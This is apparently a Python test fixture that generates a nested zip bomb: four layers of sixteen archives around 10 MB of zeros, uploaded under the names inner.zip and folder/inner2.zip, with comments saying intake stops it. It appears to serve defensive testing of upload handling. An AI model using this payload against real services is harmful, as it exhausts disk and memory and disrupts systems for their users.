"""Zips in zips in zips beside the notebook, the innermost a bomb: whoever unpacks all there is never ends."""
# from: solved
# shows: set aside, not used in grading: .*inner.*\.zip
# stopped by: intake

# %% upload
import io
import zipfile


def packed(content):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as inner:
        for number in range(16):
            inner.writestr(f"inner{number}.zip", content)
    return stream.getvalue()


layers = packed(bytes(10**7))
for _ in range(3):
    layers = packed(layers)
files["inner.zip"] = files["folder/inner2.zip"] = layers
